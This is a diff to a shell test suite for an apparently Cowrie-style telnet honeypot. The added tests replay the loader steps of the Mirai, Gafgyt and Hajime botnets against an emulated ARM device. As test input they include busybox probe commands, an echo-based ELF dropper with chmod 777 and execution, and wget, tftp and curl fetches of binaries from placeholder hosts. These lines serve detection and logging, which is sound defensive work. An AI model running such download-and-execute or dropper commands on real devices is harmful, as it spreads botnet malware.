@@ -1,6 +1,6 @@
 #!/bin/bash
 # SPDX-License-Identifier: GPL-2.0-only
-# faketelnet with a bot's bytes and with real clients.
+# The telnet server with a bot's bytes and with real clients.
 
 . ./lib.sh
 ip addr add 198.18.0.23/32 dev lo
@@ -57,7 +57,8 @@ check "both logins are events" logins
 nul_is_kept() { telnet_events 'select(.command == "/bin/busybox MIRAI") | .bytes_hex' |
 	grep -qx '"2f62696e2f62757379626f78204d4952414900"'; }
 check "the NUL is in its event" nul_is_kept
-closed() { telnet_events 'select(.kind == "closed")' | grep -q '"success":true,"attempts":2,"commands":7,"reason":"exit"'; }
+closed() { telnet_events 'select(.kind == "closed" and .commands == 7) | [.success, .attempts, .reason, .eventid]' |
+	grep -qx '\[true,2,"exit","cowrie.session.closed"\]'; }
 check "the end is an event" closed
 
 check "closes after three" talks 'a\nb\na\nb\na\nb\na\nb\n' "router
@@ -132,4 +133,43 @@ check "holds them" wait_for grep -q held "$WORK/hold.out"
 check "serves another one" third_time
 end_helper hold
 check "ends cleanly after them" stop telnet
+
+# the steps of Mirai's, Gafgyt's and Hajime's loaders
+write_conf 'machine = arm file "/etc/banner" { content = "camera\n" }'
+store=$WORK/store
+check "starts as an ARM device" start telnet --store "$store"
+says() { talk "admin\\n\\n$1\\nexit\\n" | grep -qx -- "$2"; }
+check "a file of lab.conf" says 'cat /etc/banner' camera
+check "Gafgyt's question" says "/bin/busybox;echo -e '\\\\147\\\\141\\\\171\\\\146\\\\147\\\\164'" gayfgt
+elf() { [ "$(talk 'admin\n\n/bin/busybox cat /bin/echo\nexit\n' | LC_ALL=C grep -aoP '\x7fELF\x01\x01\x01' | wc -l)" = 1 ]; }
+check "the ELF header tells little endian" elf
+hajime() { talk 'admin\n\ncd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ECCHI\ntftp; wget; /bin/busybox ECCHI\ndd bs=52 count=1 if=.s || cat .s\n>.s; cp .s .i\nrm .s; exit\n' |
+	tee "$WORK/out" | grep -c 'ECCHI: applet not found' | grep -qx 2 && grep -q '1+0 records in' "$WORK/out"; }
+check "Hajime's dialogue" hajime
+dropped()
+{
+	talk 'admin\n\necho -ne "\\x7f\\x45\\x4c\\x46" > /tmp/.d\necho -ne "\\x01\\x02" >> /tmp/.d; chmod 777 /tmp/.d; /tmp/.d arm\nexit\n' >/dev/null
+	printf '\x7fELF\x01\x02' >"$WORK/expected"
+	sum=$(sha256sum <"$WORK/expected") sum=${sum%% *}
+	wait_for cmp "$WORK/expected" "$store/$sum" &&
+		wait_for eval '[ -n "$(telnet_events "select(.eventid == \"cowrie.session.file_download\" and .shasum == \"$sum\" and .destfile == \"/tmp/.d\")")" ]'
+}
+check "what echo wrote is stored" dropped
+loader_event() { events 'select(.event_type == "loader") | .loader | [.tool, .url, .dest]' | grep -qxF "$1"; }
+loads()
+{
+	talk 'admin\n\nwget http://192.0.2.1/bins/x.arm -O - > d; tftp -g -l d -r x.arm 192.0.2.1\ncurl -O http://a.test/x.sh\nexit\n' >/dev/null
+	wait_for loader_event '["wget","http://192.0.2.1/bins/x.arm","-"]' &&
+		wait_for loader_event '["tftp","tftp://192.0.2.1/x.arm","d"]' && wait_for loader_event '["curl","http://a.test/x.sh","x.sh"]'
+}
+check "what would be fetched is told" loads
+: >"$EVENTS"
+sessions() { "$TESTBIN/fake_sessions" 198.18.0.23 23 10000 $'root\nx\nroot\n1234\nsh\n/bin/busybox MIRAI\nexit\nexit\n'; }
+check "10,000 sessions" sessions
+counted() { same "$(jq -r 'select(.event_type == "telnet") | .telnet.eventid' "$EVENTS" | sort | uniq -c | tr -s ' ' | tr '\n' ,)" \
+	' 40000 cowrie.command.input, 10000 cowrie.login.failed, 10000 cowrie.login.success, 10000 cowrie.session.closed, 10000 cowrie.session.connect,'; }
+check "and every event of them" counted
+check "ends cleanly after the sessions" stop telnet
+nothing_lost() { same "$(events 'select(.event_type == "stats") | .stats | [.suppressed, .events_dropped, .conversations >= 10000]')" '[0,0,true]'; }
+check "none was suppressed" nothing_lost
 finish
